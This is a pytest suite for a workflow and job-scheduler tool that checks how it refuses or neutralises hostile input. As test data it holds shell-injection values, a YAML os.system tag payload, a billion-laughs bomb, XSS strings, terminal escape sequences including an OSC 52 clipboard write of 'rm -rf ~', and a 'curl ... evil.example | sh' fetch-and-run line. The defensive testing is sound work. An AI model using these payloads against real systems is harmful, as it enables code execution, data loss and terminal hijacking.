"""Hostile and sloppy inputs the project had not seen: workflow files, values that reach the
command line of a site, and text that comes back from jobs and schedulers.

The standard for each: bad input is refused with one line that says what, where and what
would be accepted (the CLI exits 2) and nothing is lost; nothing user-supplied reaches a
shell or a command's options unquoted; text from jobs never drives the user's terminal."""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from sweep_helpers import logs_answer

from diamond_jupyter.model import BadInput, JobSpec
from diamond_jupyter.option_types import SPEC_OPTIONS
from diamond_jupyter.workflow import model
from diamond_jupyter.workflow.model import (
    MAX_STEPS,
    MAX_WORKFLOW_BYTES,
    load_workflow,
    parse_workflow,
)

SITES = ["alpha", "beta"]
S = "#!/bin/bash\necho hi\n"


def step(name, **kw):
    return {"name": name, "script": S, **kw}


def wf(*steps, **kw):
    return {"name": "w", "steps": list(steps), **kw}


def refused(data, *, sites=SITES) -> str:
    """The one-line reason a workflow (data, YAML text or a Path) is refused."""
    with pytest.raises(BadInput) as e:
        if isinstance(data, (str, Path)):
            load_workflow(data, sites=sites)
        else:
            parse_workflow(data, sites=sites)
    msg = str(e.value)
    assert msg.strip() and "\n" not in msg, msg
    return msg


# -- 1. workflow files: shape -------------------------------------------------------------------

@pytest.mark.parametrize("data,want", [
    ([1, 2], "expected a mapping with `name` and `steps`, got list"),
    ("just text", "expected a mapping with `name` and `steps`, got str"),
    (None, "expected a mapping with `name` and `steps`, got NoneType"),
    ({"name": "w", "steps": {"a": 1}}, "steps: Input should be a valid list"),
    ({"name": "w", "steps": "a"}, "steps: steps is a list of steps, each a mapping of its "
     "fields (`- name: prep` with its `script:` under it), not 'a'"),
    (wf("a"), "steps[0]: a step is a mapping of its fields"),
    (wf(step("a"), step("a")), "step name 'a' is used twice"),
])
def test_the_shape_of_the_file_is_checked(data, want):
    assert want in refused(data)


@pytest.mark.parametrize("name", ["", "a/b", "..", ".", "a b", "a;b", "$(id)", "`id`", "-a",
                                  "--help", "a\nb", "x" * 64])
def test_step_names_that_could_be_paths_options_or_commands_are_refused(name):
    msg = refused(wf(step(name)))
    assert "is not a valid name (letters, digits, _ . -" in msg or \
        "control character" in msg


def test_a_typo_in_a_key_names_the_key_and_the_accepted_ones():
    msg = refused(wf(step("a"), step("b", need=["a"])))
    assert "steps['b'].need: unknown field" in msg
    assert "accepted: name, script, script_file, site, needs, inputs, outputs, gang, " \
        "retries, on_failure" in msg
    assert "stpes: unknown field (accepted: name, steps" in refused(
        {"name": "w", "stpes": [], "steps": [step("a")]})


# -- cycles and edges ---------------------------------------------------------------------------

def test_a_step_that_needs_itself_is_named():
    assert "step 'a' needs itself" in refused(wf(step("a", needs=["a"])))


@pytest.mark.parametrize("steps,cycle", [
    ([step("a", needs=["b"]), step("b", needs=["a"])], "a -> b -> a"),
    ([step("a", needs=["c"]), step("b", needs=["a"]), step("c", needs=["b"])],
     "a -> b -> c -> a"),
    ([step("x"), step("a", needs=["x", "c"]), step("b", needs=["a"]),
      step("c", needs=["b"])], "a -> b -> c -> a"),
])
def test_a_cycle_is_refused_naming_its_steps(steps, cycle):
    assert f"has a cycle: {cycle}" in refused(wf(*steps))


def test_an_input_from_a_step_that_is_not_upstream_names_both():
    msg = refused(wf(step("a"), step("b"), step("c", needs=["a"],
                                                  inputs=[{"from": "b", "path": "x"}])))
    assert "step 'c': inputs[0] is from 'b', which is not upstream of it" in msg


# -- paths --------------------------------------------------------------------------------------

def _with_input(**inp):
    return wf(step("a"), step("b", needs=["a"], inputs=[{"from": "a", **inp}]))


@pytest.mark.parametrize("path,want", [
    ("/etc/passwd", "must be relative"),
    ("~/.ssh/id_rsa", "must be relative"),
    ("x/../../y", "no '..'"),
    ("..", "no '..'"),
    ("-rf", "no leading /, ~ or -"),
    ("--delete", "no leading /, ~ or -"),
])
def test_input_paths_outside_the_working_directory_or_like_options_are_refused(path, want):
    msg = refused(_with_input(path=path))
    assert msg.startswith("the workflow: steps['b'].inputs[0].path: ") and want in msg


@pytest.mark.parametrize("path,char", [("x\ny", "newline"), ("x\x00y", "NUL"),
                                       ("x\ry", "carriage return"), ("a\x1b[2Kb", "U+001B")])
def test_a_control_character_in_a_path_is_refused_saying_where(path, char):
    msg = refused(_with_input(path=path))
    assert msg.startswith("the workflow: steps['b'].inputs[0].path: "), msg
    assert char in msg
    msg = refused(wf(step("a", outputs=["ok", path])))
    assert msg.startswith("the workflow: steps['a'].outputs"), msg


@pytest.mark.parametrize("path", ["*.dat", "out-?.bin", "part[0-9]", "data/*"])
def test_a_glob_is_refused_since_inputs_are_copied_by_exact_name(path):
    """A glob was taken literally: the step failed at run time, after its upstream ran,
    with `input *.dat could not be copied`."""
    msg = refused(_with_input(path=path))
    assert msg.startswith("the workflow: steps['b'].inputs[0].path: ")
    assert "glob" in msg and "name each file" in msg
    assert "glob" in refused(wf(step("a", outputs=[path])))


@pytest.mark.parametrize("path", ["out.bin", "data/in.bin", "a b.txt", "x;y", "$(id)",
                                  "it's", "a.-b"])
def test_odd_but_plain_file_names_are_accepted_and_quoted_when_copied(path, tmp_path):
    from diamond_jupyter.workflow.engine import copy_lines

    w = parse_workflow(_with_input(path=path), sites=SITES)
    assert w.step("b").inputs[0].path == path
    src = tmp_path / "up"
    src.mkdir()
    (src / "data").mkdir()
    (src / path).write_text("payload")
    here = tmp_path / "here"
    here.mkdir()
    script = copy_lines([(str(src / path), path)])
    res = subprocess.run(["bash", "-c", script], cwd=here, capture_output=True, text=True)
    assert res.returncode == 0, res.stderr
    assert (here / path).read_text() == "payload"
    assert sorted(p.name for p in here.iterdir()) == [Path(path).parts[0]]


@pytest.mark.parametrize("outputs", ["x", 1, {"x": 1}, [["x"]], [None], None])
def test_outputs_of_odd_types_are_refused(outputs):
    assert refused(wf(step("a", outputs=outputs))).startswith("the workflow: steps['a'].outputs")


# -- numbers and enumerations -----------------------------------------------------------------

@pytest.mark.parametrize("retries,want", [
    (-1, "a whole number from 0 to 10, not -1"),
    (10**30, "a whole number from 0 to 10, not 1"),
    (11, "a whole number from 0 to 10, not 11"),
    ("3", "a whole number from 0 to 10"),
    ("three", "a whole number from 0 to 10"),
    (True, "a whole number from 0 to 10"),
    (2.0, "a whole number from 0 to 10"),
    (2.5, "a whole number from 0 to 10"),
    (None, "a whole number from 0 to 10"),
])
def test_retries_must_be_a_small_whole_number(retries, want):
    msg = refused(wf(step("a", retries=retries)))
    assert msg.startswith("the workflow: steps['a'].retries: ") and want in msg


def test_retries_in_range_are_kept():
    assert parse_workflow(wf(step("a", retries=3)), sites=SITES).step("a").retries == 3


@pytest.mark.parametrize("size", [-5, True, False, "-5M", 10**40])
def test_an_input_size_must_be_a_plausible_number_of_bytes(size):
    msg = refused(_with_input(path="x", size=size))
    assert msg.startswith("the workflow: steps['b'].inputs[0].size: "), msg


def test_on_failure_lists_the_policies():
    msg = refused(wf(step("a", on_failure="retry")))
    assert "steps['a'].on_failure: Input should be 'resubmit-elsewhere' or 'stop'" in msg


# -- gangs and sites ----------------------------------------------------------------------------

@pytest.mark.parametrize("steps,via", [
    ([step("a", gang="g"), step("b", gang="g", needs=["a"])], ""),
    ([step("a", gang="g"), step("m", needs=["a"]), step("b", gang="g", needs=["m"])],
     " (through 'm')"),
])
def test_a_gang_whose_members_wait_for_each_other_is_refused(steps, via):
    assert f"gang 'g': step 'b' waits for 'a'{via} of the same gang" in refused(wf(*steps))


@pytest.mark.parametrize("site", ["nosuch", "-x", "alpha;id", "ALPHA"])
def test_an_unknown_site_lists_the_known_ones(site):
    hint = "did you mean alpha? " if site.lower().startswith("alpha") else ""
    assert f"step 'a': unknown site {site!r} ({hint}known: alpha, beta, or auto)" in refused(
        wf(step("a", site=site)))


def test_auto_is_a_site():
    assert parse_workflow(wf(step("a", site="auto")), sites=SITES).step("a").site == "auto"


# -- YAML itself -------------------------------------------------------------------------------

def test_python_tags_never_construct_objects(tmp_path):
    marker = tmp_path / "pwned"
    text = (f"name: !!python/object/apply:os.system ['touch {marker}']\n"
            "steps: [{name: a, script: x}]\n")
    said = refused(text)
    assert "line 1, column 7: the YAML tag" in said and "is not read" in said
    assert not marker.exists()


def test_a_billion_laughs_is_refused_at_once():
    lol = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join([f'*{chr(97 + i)}'] * 9)}]\n"
        for i in range(8))
    shown: list[int] = []
    real_repr = model._SHOWN.repr_list

    def counted(x, level):  # how many lists the error's text walks into
        shown.append(len(x))
        return real_repr(x, level)

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(model._SHOWN, "repr_list", counted)
        msgs = [refused(text) for text in (
            lol + "name: w\nsteps: *i\n",
            lol + "name: w\nsteps: [{name: a, script: x, outputs: *i}]\n",
            lol + "name: w\nsteps: [{name: a, script: x, needs: *i}]\n")]
    # refused as it is read (since the twelfth sweep of inputs, tests/test_inputs_unseen12.py,
    # before any check walks it); never its billion expanded leaves written out (which took
    # seconds of the server's time), nor, in `inputs` and `retries`, minutes and gigabytes
    for msg in msgs:
        assert "anchors and aliases (&name, *name) make it hold more than 100,000 values" \
            in msg and len(msg) < 400
    assert len(shown) < 30


def test_aliases_of_a_whole_step_are_duplicates():
    text = "name: w\nsteps:\n  - &s {name: a, script: x}\n  - *s\n"
    assert "step name 'a' is used twice" in refused(text)


@pytest.mark.parametrize("text,key,line", [
    ("name: w\nsteps:\n  - name: a\n    script: x\n    needs: [b]\n    needs: []\n"
     "  - {name: b, script: y}\n", "needs", 6),
    ("name: w\nname: v\nsteps: [{name: a, script: x}]\n", "name", 2),
    ("name: w\nsteps: [{name: a, script: x, name: b}]\n", "name", 2),
])
def test_a_key_given_twice_is_refused_not_silently_overwritten(text, key, line):
    """YAML kept the last of two `needs:`; the step lost its dependency and ran at once."""
    msg = refused(text)
    assert f"line {line}" in msg and f"{key!r} is given twice" in msg


@pytest.mark.parametrize("text", ["", "   \n", "# only a comment\n", "---\n"])
def test_an_empty_file_says_what_a_workflow_holds(text):
    assert "expected a mapping with `name` and `steps`" in refused(text)


def test_a_file_that_is_a_list_says_so(tmp_path):
    p = tmp_path / "w.yaml"
    p.write_text("- name: a\n  script: x\n")
    assert refused(p) == f"{p}: expected a mapping with `name` and `steps`, got list"


@pytest.mark.parametrize("raw,where", [
    ("name: w\nsteps:\n  - {name: a, script: echo caf\xe9}\n".encode("latin-1"), "line 3"),
    ("name: w\n".encode("utf-16"), "line 1"),
    (b"name: w\nsteps: [{name: a, script: \xff\xfe}]\n", "line 2"),
])
def test_a_file_that_is_not_utf8_names_the_line(tmp_path, raw, where):
    p = tmp_path / "w.yaml"
    p.write_bytes(raw)
    msg = refused(p)
    assert msg.startswith(f"{p}: not UTF-8 text") and where in msg and "save it as UTF-8" in msg


def test_a_nul_byte_is_refused(tmp_path):
    assert "not valid YAML" in refused("name: w\x00\nsteps: []\n")


@pytest.mark.parametrize("text", ["[" * 5000 + "]" * 5000, "{a: " * 5000 + "1" + "}" * 5000,
                                  "name: w\nsteps: " + "[" * 3000 + "]" * 3000 + "\n"])
def test_deep_nesting_is_bad_input_not_a_crash(text):
    assert "nested" in refused(text)


def test_a_very_large_file_is_refused_before_it_is_parsed(tmp_path, monkeypatch):
    p = tmp_path / "big.yaml"
    p.write_text("name: w\nsteps:\n  - name: a\n    script: '" + "x" * (8 << 20) + "'\n")

    def never(*_a, **_kw):
        raise AssertionError("the YAML parser was given the file")
    monkeypatch.setattr(yaml, "load", never)
    msg = refused(p)
    assert f"at most {MAX_WORKFLOW_BYTES} bytes" in msg and str(p) in msg
    assert f"at most {MAX_WORKFLOW_BYTES} bytes" in refused(
        "name: w\nsteps: [{name: a, script: '" + "x" * (MAX_WORKFLOW_BYTES + 1) + "'}]\n")


def test_too_many_steps_are_refused_naming_the_limit():
    many = wf(*[step(f"s{i}") for i in range(MAX_STEPS + 1)])
    assert f"at most {MAX_STEPS} steps" in refused(many)


@pytest.mark.timeout(60)  # before: 46 s to check and 106 s per order(); now well under 3 s
def test_a_long_chain_is_checked_and_ordered_in_linear_time():
    """A 2000-step chain took 46 s to check and 106 s per `order()` (called at every advance
    of the engine, on its event loop)."""
    n = 2000
    chain = wf(*[step(f"s{i}", needs=[f"s{i - 1}"] if i else []) for i in range(n)])
    w = parse_workflow(chain, sites=SITES)
    order = w.order()
    down = w.downstream("s0")
    up = w.upstream(f"s{n - 1}")
    assert order == [f"s{i}" for i in range(n)]
    assert len(down) == n - 1 and len(up) == n - 1


def test_a_chain_written_backwards_is_checked_without_recursion():
    n = MAX_STEPS
    chain = wf(*[step(f"s{i}", needs=[f"s{i + 1}"] if i < n - 1 else []) for i in range(n)])
    w = parse_workflow(chain, sites=SITES)
    assert w.order() == [f"s{i}" for i in reversed(range(n))]
    chain["steps"][-1]["needs"] = ["s0"]
    assert f"has a cycle of {n} steps: s0 -> s{n - 1} -> " in refused(chain)


@pytest.mark.parametrize("seed", range(30))
def test_the_order_is_the_rounds_in_file_order(seed):
    """The same order as before: rounds of the steps whose needs all came earlier."""
    import random

    rnd = random.Random(seed)
    n = rnd.randint(1, 25)
    steps = [step(f"s{i}") for i in range(n)]
    for i in range(n):  # edges to earlier steps only, then shuffle the file order
        steps[i]["needs"] = sorted({f"s{j}" for j in range(i) if rnd.random() < 0.2})
    rnd.shuffle(steps)
    w = parse_workflow(wf(*steps), sites=SITES)
    done: list[str] = []
    left = [s["name"] for s in steps]
    while left:
        ready = [x for x in left if set(w.step(x).needs) <= set(done)]
        done += ready
        left = [x for x in left if x not in ready]
    assert w.order() == done
    for s in steps:
        naive_up, todo = set(), list(s["needs"])
        while todo:
            x = todo.pop()
            if x not in naive_up:
                naive_up.add(x)
                todo += w.step(x).needs
        assert w.upstream(s["name"]) == naive_up
        assert w.downstream(s["name"]) == {t["name"] for t in steps
                                           if s["name"] in w.upstream(t["name"])}


# -- the command line: bad workflows exit 2, before any site is asked --------------------------

def _cli(*args: str, tmp_path: Path, check: int | None = None) -> subprocess.CompletedProcess:
    sites = tmp_path / "sites.yaml"
    if not sites.exists():
        sites.write_text("sites:\n  - name: alpha\n    scheduler: slurm\n"
                         "    transport: {kind: local}\n"
                         f"store: {tmp_path / 'store.sqlite3'}\n")
    env = {**os.environ, "DIAMOND_DATA_DIR": str(tmp_path / "data"), "HOME": str(tmp_path),
           "DIAMOND_CONFIG": str(sites)}
    res = subprocess.run([sys.executable, "-m", "diamond_jupyter.cli", *args],
                         capture_output=True, text=True, env=env, timeout=120)
    if check is not None:
        assert res.returncode == check, (res.stdout, res.stderr)
    return res


@pytest.mark.parametrize("text,want", [
    ("name: w\nsteps:\n  - {name: a, script: x}\n  - {name: b, script: y, need: [a]}\n",
     "steps['b'].need: unknown field"),
    ("name: w\nsteps:\n  - {name: a, script: x, needs: [b]}\n  - {name: b, script: y, "
     "needs: [a]}\n", "has a cycle: a -> b -> a"),
    ("name: w\nsteps:\n  - {name: a, script: x, site: nosuch}\n", "unknown site 'nosuch'"),
    ("name: w\nsteps:\n  - name: a\n    script: x\n    retries: 1\n    retries: 9\n",
     "'retries' is given twice"),
])
def test_diamond_workflow_run_exits_2_with_one_line(tmp_path, text, want):
    f = tmp_path / "w.yaml"
    f.write_text(text)
    res = _cli("workflow", "run", str(f), tmp_path=tmp_path, check=2)
    assert res.stdout == ""
    lines = res.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("diamond: ") and want in lines[0], lines
    assert f.read_text() == text  # nothing lost


# -- 2. values that reach a site's command line ------------------------------------------------

HOSTILE = ["a b", "a'b", 'a"b', "a;b", "$(touch PWNED)", "`touch PWNED`", "a\\b", "a#b",
           "x' ; touch PWNED ; '"]


@pytest.mark.parametrize("dialect", ["slurm", "pbs", "lsf", "flux", "sge"])
@pytest.mark.parametrize("field", ["name", "queue", "account", "working_directory"])
@pytest.mark.parametrize("value", HOSTILE)
def test_directive_values_come_back_as_given_and_never_run(dialect, field, value, tmp_path):
    from diamond_jupyter.dialects import get_script_dialect

    d = get_script_dialect(dialect)
    if field == "queue" and " " in value:
        # no scheduler's queue name holds a blank: refused before anything is rendered
        with pytest.raises(BadInput, match=r"has a blank inside a name"):
            JobSpec(script="true\n", queue=value)
        return
    spec = JobSpec(script="true\n", **{field: value})
    if dialect == "sge" and field != "name" and re.search(r"[\s'\"\\]", value):
        # qsub splits #$ lines at blanks and deletes quotes, with no escapes: refused
        with pytest.raises(BadInput, match=r"^sge cannot express the "):
            d.render_script(spec)
        return
    text = d.render_script(spec).script
    subprocess.run(["bash", "-c", text], cwd=tmp_path, capture_output=True, timeout=30)
    assert not (tmp_path / "PWNED").exists()
    if dialect in ("sge", "pbs") and field == "name":
        # Grid Engine's and PBS's names have no blanks, and a PBS name starts with a letter:
        # the renderer makes them so (a warning), as job_name says
        assert d.parse_script(text).name == d.job_name(value)
        return
    if dialect == "pbs" and field == "working_directory":
        return  # a `cd` line in the body (PBS Pro), quoted: the run above is the check
    assert getattr(d.parse_script(text), field) == value


@pytest.mark.parametrize("field", ["queue", "account", "working_directory", "stdout",
                                   "stderr"])
@pytest.mark.parametrize("value", ["-x", "--partition=debug", "-delete"])
def test_option_like_values_are_refused_naming_the_field(field, value):
    with pytest.raises(BadInput, match=rf"^{field} '{value}' starts with '-'"):
        JobSpec.model_validate({"script": "true\n", field: value})


@pytest.mark.parametrize("image", ["-v/:/host", "--bind=/:/mnt", "--privileged"])
@pytest.mark.parametrize("runtime", ["apptainer", "docker"])
def test_a_container_image_is_never_read_as_a_runtime_option(image, runtime):
    """`--container=-v/:/host` became `docker run ... -v/:/host /bin/bash -s`."""
    from diamond_jupyter.dialects import get_script_dialect
    from diamond_jupyter.federation import Federation

    with pytest.raises(BadInput, match=rf"^--container '{image}': .*starts with '-'"):
        Federation.spec_from_text("echo hi\n", None, name="n", default_name="n",
                                  overrides={"container": image}, said_as=SPEC_OPTIONS)
    spec = JobSpec(script="echo hi\n", metadata={"container_runtime": runtime})
    spec.environment.container_image = image  # as a parser or an older store fills it
    with pytest.raises(BadInput, match=r"^environment\.container_image '.*' starts with '-'"):
        get_script_dialect("slurm").render_script(spec)
    with pytest.raises(BadInput, match="starts with '-'"):
        JobSpec.model_validate({"script": "true\n", "environment": {"container_image": image}})


@pytest.mark.parametrize("option,value", [("gpu_type", "-x"), ("gpu_type", "--gres=x"),
                                          ("arch", "-x"), ("software", ["-gcc"])])
def test_need_options_that_look_like_options_are_refused(option, value):
    from diamond_jupyter.federation import Federation

    with pytest.raises(BadInput, match=rf"^--{option.replace('_', '-')} "):
        Federation.spec_from_text("echo hi\n", None, name="n", default_name="n",
                                  overrides={option: value}, said_as=SPEC_OPTIONS)


def test_a_gpu_type_like_an_option_never_reaches_a_directive():
    from diamond_jupyter.dialects import get_script_dialect
    from diamond_jupyter.model import Resources

    spec = JobSpec(script="true\n")
    spec.resources = Resources(gpus_per_node=1)
    spec.resources.gpu_type = "-x"
    for d in ["slurm", "lsf", "flux"]:
        with pytest.raises(BadInput, match=r"^resources\.gpu_type '-x' starts with '-'"):
            get_script_dialect(d).render_script(spec)


@pytest.mark.parametrize("kind", ["after ok", "afterok;id", "-x", "", "singleton"])
def test_an_unknown_dependency_kind_is_refused_listing_the_kinds(kind):
    """`after ok` was rendered as `--dependency="after ok:1"` (refused by the site, exit 1)
    and crashed the LSF renderer with a KeyError."""
    from diamond_jupyter.dialects import get_script_dialect
    from diamond_jupyter.model import Dependency

    with pytest.raises(ValueError, match="afterok"):
        JobSpec.model_validate({"script": "true\n", "dependencies": [
            {"kind": kind, "job_ids": ["1"]}]})
    spec = JobSpec(script="true\n", dependencies=[Dependency(job_ids=["1"])])
    spec.dependencies[0].kind = kind  # as a parser or an older store fills it
    for d in ["slurm", "pbs", "lsf", "flux", "sge"]:
        with pytest.raises(BadInput, match=rf"^dependencies\[0\]\.kind {kind!r} is not one "
                                           r"of afterok, afterany, afternotok, after"):
            get_script_dialect(d).render_script(spec)
    from diamond_jupyter.dialects.slurm_rest import job_description

    spec.working_directory = "/w"
    with pytest.raises(BadInput, match=r"^dependencies\[0\]\.kind "):
        job_description(spec)


def test_slurmrestd_takes_the_same_dependency_ids_as_sbatch():
    from diamond_jupyter.dialects.slurm_rest import job_description

    spec = JobSpec.model_validate({"script": "true\n", "working_directory": "/w",
                                   "dependencies": [{"job_ids": ["12", "1,afterany:9"]}]})
    job, warnings = job_description(spec)
    assert job["dependency"] == "afterok:12"
    assert any("dropped: dependency afterok:1,afterany:9" in w for w in warnings)


@pytest.mark.parametrize("dialect", ["slurm", "pbs", "lsf", "flux", "sge"])
@pytest.mark.parametrize("ids", [["1;id"], ["-1"], ["$(id)"], ["1 2"], ["--help"], [""]])
def test_job_ids_are_checked_before_a_command_is_built(dialect, ids):
    from diamond_jupyter.dialects import get_commands

    with pytest.raises(BadInput):
        get_commands(dialect).cancel_argv(ids)


def test_html_cards_escape_names_and_reasons():
    from diamond_jupyter.kernel.workflowcard import render_html

    html = render_html({"id": "<b id=1>", "name": "<img src=x onerror=alert(1)>",
                        "state": "FAILED", "reason": "<script>", "steps": [
                            {"name": "x' onmouseover='alert(1)", "state": "FAILED",
                             "site": "<i id=2>", "job": "<u id=3>", "needs": ["<svg onload=x>"],
                             "gang": "<em id=4>", "reason": "<script>alert(1)</script>"}]})
    for raw in ("<img", "<svg", "<script", "<i id", "<u id", "<b id", "<em id",
                "' onmouseover='"):
        assert raw not in html


def test_yaml_dump_round_trip_of_a_checked_workflow_is_the_same():
    w = parse_workflow(wf(step("a", outputs=["x y"]), step(
        "b", needs=["a"], inputs=[{"from": "a", "path": "x y", "as": "in/z", "size": "2M"}])),
        sites=SITES)
    again = load_workflow(yaml.safe_dump(w.model_dump(by_alias=True)), sites=SITES)
    assert again == w
# -- 3. text that comes back from jobs and schedulers ------------------------------------------

ESCAPES = ["\x1b]52;c;cm0gLXJmIH4K\x07", "\x1b[2K\x1b[1A", "\x1b]0;owned\x07", "\x9b31m",
           "a\rb", "\u202etxt.exe"]


def test_visible_shows_every_control_character():
    from diamond_jupyter.model import visible

    for e in ESCAPES:
        shown = visible(e)
        assert not any(c in shown for c in "\x1b\x07\x9b\r\u202e"), repr(shown)
    assert visible("tab\there\nnew line ü ✓") == "tab\there\nnew line ü ✓"
    assert visible("\x1b[31mred\x1b[0m", keep_colour=True) == "\x1b[31mred\x1b[0m"
    assert "\x1b]" not in visible("\x1b[31m\x1b]52;c;x\x07", keep_colour=True)


def test_the_approval_plan_cannot_hide_lines_of_the_script():
    """A script could move the cursor up and erase the line the user was about to read in
    `diamond ask`'s approval prompt; what was approved was not what was shown."""
    from diamond_jupyter.federation_plan import describe_plan

    script = "#!/bin/bash\ncurl -s http://evil.example/x | sh\n\x1b[1A\x1b[2Kecho hello\n"
    text = describe_plan({"action": "submit", "site": "alpha", "script": script,
                          "spec": {"name": "\x1b]0;t\x07ok"}, "warnings": ["\x1b[2Kw"]})
    assert "\x1b" not in text and "\x07" not in text
    assert "curl -s http://evil.example/x | sh" in text
    assert "\\x1b[1A\\x1b[2Kecho hello" in text


def _store_with_job(tmp_path: Path, **update):
    from diamond_jupyter.store import Store

    store = Store(tmp_path / "store.sqlite3")
    store.record_intent("alpha", "abc123abc123", JobSpec(script="true\n", name="j"))
    job = store.bind_native_id("abc123abc123", "41")
    store.upsert_job(job.model_copy(update=update))
    store.close()
    return job.id


def test_diamond_jobs_shows_scheduler_text_without_driving_the_terminal(tmp_path):
    _cli("sites", "--offline", tmp_path=tmp_path, check=0)  # the store, as the CLI opens it
    jid = _store_with_job(tmp_path, reason="\x1b]52;c;cm0gLXJmIH4K\x07Priority\x1b[2K")
    res = _cli("jobs", tmp_path=tmp_path, check=0)
    assert jid in res.stdout and "Priority" in res.stdout
    assert "\x1b" not in res.stdout and "\x07" not in res.stdout
    res = _cli("jobs", "--json", tmp_path=tmp_path, check=0)
    assert json.loads(res.stdout)[0]["reason"].startswith("\x1b]52")  # data kept as it was


def test_diamond_queue_text_shows_other_users_names_visibly(monkeypatch, capsys):
    """Another user's job name in `diamond queue` could set the clipboard (OSC 52)."""
    import argparse

    from diamond_jupyter.cli import common

    common.out(argparse.Namespace(json=False), {}, "1 PENDING bob \x1b]52;c;eA==\x07name")
    got = capsys.readouterr().out
    assert "\x1b" not in got and "name" in got


def test_logs_on_a_terminal_keep_colours_but_not_control_sequences(monkeypatch, capsys):
    from diamond_jupyter.cli import jobs as cli_jobs

    logs = {"stdout": "\x1b[32mok\x1b[0m\n\x1b]52;c;cm0=\x07done\n", "stderr": "\x1b[2Kerr\n",
            "missing": ""}
    logs_answer(monkeypatch, logs)
    import argparse

    args = argparse.Namespace(json=False, job="alpha:1", lines=10)

    class Tty(io.StringIO):
        def isatty(self):
            return True
    out, err = Tty(), Tty()
    monkeypatch.setattr(sys, "stdout", out)
    monkeypatch.setattr(sys, "stderr", err)
    assert cli_jobs.cmd_logs(args) == 0
    assert "\x1b[32mok\x1b[0m" in out.getvalue() and "\x1b]" not in out.getvalue()
    assert "\x1b[2K" not in err.getvalue() and "err" in err.getvalue()
    # piped to a file: the bytes as the job wrote them (nothing lost)
    out, err = io.StringIO(), io.StringIO()
    monkeypatch.setattr(sys, "stdout", out)
    monkeypatch.setattr(sys, "stderr", err)
    assert cli_jobs.cmd_logs(args) == 0
    assert out.getvalue() == logs["stdout"] and err.getvalue() == logs["stderr"]


def test_workflow_text_output_shows_reasons_visibly(capsys):
    import argparse

    from diamond_jupyter.cli.workflow import _out
    from diamond_jupyter.model import JobState
    from diamond_jupyter.workflow.model import StepView, WorkflowView

    view = WorkflowView(id="wf-1", name="w", state=JobState.FAILED, reason="\x1b[2Kboom",
                        steps=[StepView(name="a", state=JobState.FAILED,
                                        reason="exit 1: \x1b]0;t\x07")])
    _out(argparse.Namespace(json=False), view)
    got = capsys.readouterr().out
    assert "\x1b" not in got and "boom" in got and "exit 1" in got


def test_an_error_line_from_a_site_is_shown_visibly(monkeypatch, capsys):
    import importlib

    from diamond_jupyter.model import SiteError

    cli_main = importlib.import_module("diamond_jupyter.cli.main")

    def boom(args):
        raise SiteError("alpha: sbatch failed: \x1b]52;c;eA==\x07denied")
    monkeypatch.setattr(cli_main, "build_parser", lambda: _Parser(boom))
    assert cli_main.main([]) == 1
    err = capsys.readouterr().err
    assert "\x1b" not in err and "denied" in err


class _Parser:
    def __init__(self, fn):
        self.fn = fn

    def parse_args(self, argv):
        import argparse

        return argparse.Namespace(fn=self.fn)


